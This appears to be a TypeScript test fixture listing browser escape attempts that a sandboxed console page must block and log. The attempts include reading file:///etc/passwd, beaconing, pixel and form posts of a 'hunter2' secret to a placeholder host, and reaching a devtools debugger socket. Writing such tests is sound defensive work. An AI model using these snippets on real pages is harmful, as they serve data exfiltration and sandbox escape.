import { expect } from 'vitest'

/** Runs in the page. `OTHER` stands for the address of a server on this machine that must never hear of it. */
const tried = (code: string): string => `(() => { ${code}; return 'tried' })()`
const socket = (made: string): string =>
  `new Promise((done) => { const it = ${made}; it.onopen = () => done('open'); it.onerror = () => done('refused') })`
export const append = (tag: string, members: string): string =>
  tried(`document.body.append(Object.assign(document.createElement('${tag}'), { ${members} }))`)
const click = (tag: string, members: string): string =>
  tried(
    `const it = Object.assign(document.createElement('${tag}'), { ${members} }); document.body.append(it); it.click()`,
  )
const TRIED = 'tried'
const NO = 'TypeError: Failed to fetch'

/** What a page tries, what it hears of that, and the kind and words of the line that tells of it. */
export const ESCAPES: readonly [string, string, unknown, string, string][] = [
  [
    'go to a foreign site',
    tried(`location.assign('https://example.org/?s=hunter2')`),
    TRIED,
    'navigation',
    'https://example.org/',
  ],
  ['go to the same console over HTTP', tried(`location.assign('OTHER/')`), TRIED, 'navigation', 'OTHER/'],
  ['go to a file', tried(`location.assign('file:///etc/passwd')`), TRIED, 'navigation', 'file:///etc/passwd'],
  ['go to a data: page', tried(`location.assign('data:text/html,hunter2')`), TRIED, 'navigation', 'data:'],
  [
    'go to another host of its own scheme',
    tried(`location.assign('OWN_OTHER')`),
    TRIED,
    'navigation',
    'countersign://other/',
  ],
  [
    'run a javascript: address',
    tried(`location.assign('javascript:window.ran=1')`),
    TRIED,
    'policy',
    'script-src-elem inline',
  ],
  [
    'run a script of its own making',
    append('script', `textContent: 'window.ran=1'`),
    TRIED,
    'policy',
    'script-src-elem inline',
  ],
  ['run a script from elsewhere', append('script', `src: 'OTHER/x.js'`), TRIED, 'policy', 'script-src-elem OTHER/x.js'],
  ['open a window with a file', tried(`window.open('file:///etc/passwd')`), TRIED, 'navigation', 'file:///etc/passwd'],
  [
    'open a window with plain http',
    tried(`window.open('http://example.org/w?s=hunter2')`),
    TRIED,
    'new_window',
    'http://example.org/w',
  ],
  ['open an empty window', tried(`window.open('about:blank')`), TRIED, 'new_window', 'about:'],
  ['frame a foreign site', append('iframe', `src: 'OTHER/frame'`), TRIED, 'policy', 'frame-src OTHER'],
  ['embed a plugin', append('object', `data: 'OTHER/object'`), TRIED, 'policy', 'object-src OTHER'],
  [
    'send a form',
    tried(
      `const f = Object.assign(document.createElement('form'), { action: 'OTHER/form', method: 'post' }); document.body.append(f); f.submit()`,
    ),
    TRIED,
    'policy',
    'form-action OTHER/form',
  ],
  [
    'read the API past the door',
    `fetch('OTHER/api/tasks').then(String, String)`,
    NO,
    'policy',
    'connect-src OTHER/api/tasks',
  ],
  [
    'speak to a debugger',
    socket(`new WebSocket('OTHER/devtools/browser'.replace('http', 'ws'))`),
    'refused',
    'policy',
    '/devtools/browser',
  ],
  [
    'listen to events past the door',
    socket(`new EventSource('OTHER/api/events')`),
    'refused',
    'policy',
    'connect-src OTHER/api/events',
  ],
  [
    'send a beacon',
    tried(`navigator.sendBeacon('OTHER/beacon', 'hunter2')`),
    TRIED,
    'policy',
    'connect-src OTHER/beacon',
  ],
  [
    'load a picture from elsewhere',
    append('img', `src: 'OTHER/pixel?s=hunter2'`),
    TRIED,
    'policy',
    'img-src OTHER/pixel',
  ],
  [
    'turn its addresses elsewhere',
    tried(`document.head.append(Object.assign(document.createElement('base'), { href: 'OTHER/base' }))`),
    TRIED,
    'policy',
    'base-uri OTHER/base',
  ],
  [
    'stay as a service worker',
    `navigator.serviceWorker.register('/index.js').then(() => 'stays', ({ name }) => name)`,
    expect.stringMatching(/Error$/),
    'policy',
    'worker-src',
  ],
  [
    'start a worker',
    append('p', `x: new Worker(URL.createObjectURL(new Blob(['1'])))`),
    TRIED,
    'policy',
    'worker-src blob',
  ],
  [
    'download from elsewhere',
    click('a', `href: 'OTHER/download', download: 'x.exe'`),
    TRIED,
    'navigation',
    'OTHER/download',
  ],
  [
    'download what was not read by the console',
    click('a', `href: 'data:text/plain,hunter2', download: 'x.txt'`),
    TRIED,
    'download',
    'data:',
  ],
]
